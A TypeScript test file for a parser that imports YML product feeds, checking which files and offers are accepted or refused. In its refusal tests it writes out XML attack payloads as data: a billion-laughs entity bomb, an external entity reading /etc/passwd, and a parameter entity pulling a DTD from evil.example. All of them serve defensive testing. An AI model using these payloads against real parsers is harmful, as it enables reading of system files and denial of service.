import iconv from 'iconv-lite';
import { closeSync, openSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { judgeOffer } from '#server/features/import/offer.rules.ts';
import { feed, feedFolder, FIRST_OFFER_LINE, offer, type OfferParts, readAll } from '#tests/import/feed-fixture.ts';

const disk = feedFolder();
afterAll(() => disk.remove());

const refusalOf = async (text: string | Buffer) => {
  const error = await readAll(disk.write(text)).then(
    () => null,
    (thrown: unknown) => thrown as { name: string; message: string; line?: number },
  );
  return error && { name: error.name, message: error.message, line: error.line };
};
const titlesOf = async (text: string | Buffer) => {
  const items = await readAll(disk.write(text));
  return items.flatMap((item) => (item.kind === 'offer' ? [item.offer.fields.get('name')?.value] : []));
};
const wide = feed([offer({ name: 'Ёлка «Иней» №1' })], { head: '<?xml version="1.0" encoding="windows-1251"?>' });

describe('files that are read', () => {
  it.each([
    ['UTF-8', feed([offer()])],
    ['UTF-8 with a byte-order mark', `\uFEFF${feed([offer()])}`],
    ['no encoding and no DOCTYPE', feed([offer()], { head: '<?xml version="1.0"?>', doctype: '' })],
    ['CRLF', feed([offer()]).replaceAll('\n', '\r\n')],
    ['PUBLIC DOCTYPE', feed([offer()], { doctype: '<!DOCTYPE yml_catalog PUBLIC "-//x" "shops.dtd">' })],
  ])('%s', async (_what, text) => {
    expect(await titlesOf(text)).toEqual(['Товар 1']);
  });
  it('windows-1251, also with a letter on the border of two pieces', async () => {
    expect(await titlesOf(iconv.encode(wide, 'windows-1251'))).toEqual(['Ёлка «Иней» №1']);
    const long = feed(Array.from({ length: 400 }, (_, at) => offer({ id: String(at), name: `Ёж ${'я'.repeat(200)}` })));
    expect(new Set(await titlesOf(long))).toEqual(new Set([`Ёж ${'я'.repeat(200)}`]));
  });
  it('CDATA, HTML names, comments, markup inside a field, nested outlets', async () => {
    const more =
      '<!-- x --><description><![CDATA[<p>a&b</p>]]></description><sales_notes>5&nbsp;&laquo;ч&raquo; <b>жирно</b></sales_notes><outlets><outlet id="1" instock="3"/><outlet id="2" instock="4"/></outlets>';
    const items = await readAll(disk.write(feed([offer({ more })])));
    const raw = items.find((item) => item.kind === 'offer')?.offer;
    expect(raw?.fields.get('description')?.value).toBe('<p>a&b</p>');
    expect(raw?.fields.get('sales_notes')?.value).toBe('5\u00a0«ч» жирно');
    expect(raw?.outletStock).toBe(7);
  });
});

describe('files that are refused as a whole', () => {
  const bomb =
    '<!DOCTYPE yml_catalog [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
  it.each([
    ['an entity bomb', feed([offer({ name: '&c;' })], { doctype: bomb }), /ENTITY/, 2],
    [
      'an external entity',
      feed([offer({ name: '&x;' })], { doctype: '<!DOCTYPE yml_catalog [<!ENTITY x SYSTEM "file:///etc/passwd">]>' }),
      /ENTITY/,
      2,
    ],
    [
      'a parameter entity',
      feed([offer()], { doctype: '<!DOCTYPE yml_catalog [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' }),
      /ENTITY/,
      2,
    ],
    ['an unknown entity', feed([offer({ name: '&evil;' })]), /неизвестная сущность/, FIRST_OFFER_LINE],
    ['a file cut off', feed([offer(), offer({ id: '2' })]).slice(0, -60), /оборван/, FIRST_OFFER_LINE + 1],
    ['a file cut off inside a tag', `${feed([offer()]).slice(0, -80)}<off`, /оборван|испорчен/, FIRST_OFFER_LINE],
    ['a NUL byte', feed([offer({ name: 'а\0б' })]), /недопустимый знак/, FIRST_OFFER_LINE],
    ['a bare ampersand', feed([offer({ name: 'Чай & мята' })]), /&amp;/, FIRST_OFFER_LINE],
    ['tags that cross', feed(['<offer id="1"><price>1</offer></price>']), /закрыт не тот/, FIRST_OFFER_LINE],
    ['a page instead of a feed', '<html><body>Войдите в сеть</body></html>', /Это не YML: первый элемент <html>/, 1],
    ['words instead of a feed', 'Войдите в сеть', /вне корневого/, 1],
    [
      'another encoding',
      feed([offer()], { head: '<?xml version="1.0" encoding="koi8-r"?>' }),
      /«koi8-r» не поддерживается/,
      1,
    ],
    [
      'a million attributes',
      feed([offer({ attributes: Array.from({ length: 1000 }, (_, at) => `a${at}="1"`).join(' ') })]),
      /атрибутов/,
      FIRST_OFFER_LINE,
    ],
  ])('%s', async (_what, text, message, line) => {
    const refusal = await refusalOf(text);
    expect(refusal).toMatchObject({
      name: 'FeedError',
      message: expect.stringMatching(message),
      line,
    });
  });
  it('invalid UTF-8, with the line', async () => {
    const [before, after] = feed([offer({ id: '1' }), offer({ id: '2', name: 'XX' })]).split('XX') as [string, string];
    expect(
      await refusalOf(Buffer.concat([Buffer.from(before), Buffer.from([0xd0, 0xff]), Buffer.from(after)])),
    ).toMatchObject({ message: expect.stringContaining('не из UTF-8'), line: FIRST_OFFER_LINE + 1 });
  });
  it('windows-1251 that calls itself UTF-8, and the reverse', async () => {
    expect(await refusalOf(iconv.encode(feed([offer()]), 'windows-1251'))).toMatchObject({
      message: expect.stringContaining('windows-1251'),
      line: 3,
    });
    expect(await refusalOf(wide)).toMatchObject({ message: expect.stringContaining('записан в UTF-8'), line: 1 });
  });
  it('UTF-16', async () => {
    expect(await refusalOf(Buffer.from(`\uFEFF${feed([offer()])}`, 'utf16le'))).toMatchObject({
      message: expect.stringContaining('UTF-16'),
    });
  });
  it('a million nested tags, at the 33rd', async () => {
    expect(await refusalOf(feed([offer({ more: '<a>'.repeat(1_000_000) })]))).toMatchObject({
      message: 'Вложенность больше 32 элементов.',
      line: FIRST_OFFER_LINE,
    });
  });
  it.each([
    ['text', '<name>', 'x'],
    ['an attribute', '<name a="', 'x'],
    ['a comment', '<!--', 'x'],
    ['CDATA', '<![CDATA[', 'x'],
    ['a tag name', '<', 'x'],
    ['entities', '<name>', '&amp;'],
    ['a DOCTYPE', '', ''],
  ])('endless %s, without keeping it in memory', async (what, open, letter) => {
    // 60 MB: kept as text, and copied as it grows, they would show in the memory below.
    const file = join(disk.folder, 'endless.xml');
    const handle = openSync(file, 'w');
    writeSync(
      handle,
      what === 'a DOCTYPE' ? '<!DOCTYPE yml_catalog "' : `<yml_catalog><shop><offers><offer id="1">${open}`,
    );
    const piece = (letter || 'x').repeat(2_000_000);
    for (let at = 0; at < (letter.length > 1 ? 5 : 30); at += 1) writeSync(handle, piece);
    closeSync(handle);
    const before = process.memoryUsage().rss;
    await expect(readAll(file)).rejects.toMatchObject({
      name: 'FeedError',
      message: expect.stringContaining('Один элемент длиннее 1 млн знаков'),
      line: 1,
    });
    expect(process.memoryUsage().rss - before).toBeLessThan(150_000_000);
  });
});

describe('offers that are refused alone, with line and reason', () => {
  const verdictOf = async (parts: OfferParts) => {
    const items = await readAll(disk.write(feed([offer({ id: '0' }), offer(parts)])));
    const raw = items.flatMap((item) => (item.kind === 'offer' ? [item.offer] : []))[1];
    if (!raw) throw new Error('no second offer');
    return judgeOffer(raw, { isRoubleFeed: true });
  };
  it.each<[OfferParts, string]>([
    [{ price: '-5' }, 'цена меньше нуля: «-5»'],
    [{ price: 'NaN' }, 'цена не число: «NaN»'],
    [{ price: '1'.repeat(30) }, `цена не число: «${'1'.repeat(30)}»`],
    [{ price: '99999999' }, 'цена больше 10 млн ₽: «99999999»'],
    [{ name: ' ' }, 'нет названия'],
    [{ name: 'я'.repeat(10_000) }, 'название длиннее 250 знаков (10000)'],
    [{ currency: 'USD' }, 'валюта «USD», а магазин торгует в рублях'],
    [{ id: ' ' }, 'нет id'],
    [{ id: 'i'.repeat(101) }, 'id длиннее 100 знаков'],
    [{ categoryId: '' }, 'нет categoryId'],
    [{ attributes: 'type="medicine"' }, 'тип «medicine» не продаётся через этот магазин'],
    [{ more: `<description>${'я'.repeat(60_001)}</description>` }, 'описание длиннее 60000 знаков'],
    [{ more: '<x/>'.repeat(1001) }, 'в предложении больше 1000 элементов'],
    [{ more: `<a>${'я'.repeat(300_000)}</a><a>${'я'.repeat(300_000)}</a>` }, 'в предложении больше 500000 знаков'],
  ])('case %#', async (parts, reason) => {
    expect(await verdictOf(parts)).toEqual({ kind: 'refused', line: FIRST_OFFER_LINE + 1, reason });
  });
  it('names the field’s own line when the offer is spread over several', async () => {
    const spread = '<offer\n id="7">\n<price>0</price>\n</offer>';
    const items = await readAll(
      disk.write(feed([spread.replace('<price>', '<name>Чай</name>\n<currencyId>RUB</currencyId>\n<price>')])),
    );
    const raw = items.find((item) => item.kind === 'offer')?.offer;
    expect(raw?.line).toBe(FIRST_OFFER_LINE);
    expect(raw && judgeOffer(raw, { isRoubleFeed: true })).toEqual({
      kind: 'refused',
      line: FIRST_OFFER_LINE + 4,
      reason: 'цена 0',
    });
  });
});
